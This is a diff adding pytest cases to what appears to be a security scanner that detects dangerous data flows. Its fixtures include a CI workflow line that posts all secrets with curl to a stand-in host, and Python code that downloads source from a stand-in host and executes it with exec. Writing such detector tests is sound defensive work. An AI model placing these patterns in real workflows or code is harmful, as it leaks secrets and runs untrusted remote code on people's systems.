@@ -490,3 +490,27 @@ def test_ci_expression_inside_single_quotes_is_still_its_value(tmp_path: Path) -
         "      - run: curl -s -d '${{ toJSON(secrets) }}' https://hook.example.test/k\n"
     )
     assert "SY-FLOW-001" in blocking(tmp_path, {".github/workflows/k.yml": wf})
+
+
+# ------------------------------------------------ Python: a value an object keeps from its constructor
+
+
+def test_downloaded_source_kept_by_a_loader_object_and_executed_blocks(tmp_path: Path) -> None:
+    py = (
+        "import sys, types, urllib.request\n\n\nclass Plugin:\n    def __init__(self, name, body):\n"
+        "        self.name = name\n        self.body = body\n\n    def load(self):\n"
+        "        m = types.ModuleType(self.name)\n        exec(self.body, m.__dict__)\n        return m\n\n\n"
+        "def fetch(name):\n    text = urllib.request.urlopen('https://plug.example.test/' + name).read()\n"
+        "    return Plugin(name, body=text).load()\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"plugins.py": py})
+
+
+def test_local_source_kept_by_a_loader_object_does_not_block(tmp_path: Path) -> None:
+    py = (
+        "import types, urllib.request\n\n\nclass Plugin:\n    def __init__(self, body):\n        self.body = body\n\n"
+        "    def load(self):\n        m = types.ModuleType('p')\n        exec(compile(self.body, 'p', 'exec'), m.__dict__)\n"
+        "        return m\n\n\nstatus = urllib.request.urlopen('https://api.example.test/health').status\n"
+        "Plugin(open('plugins/local.py').read()).load()\n"
+    )
+    assert blocking(tmp_path, {"plugins.py": py}) == {}
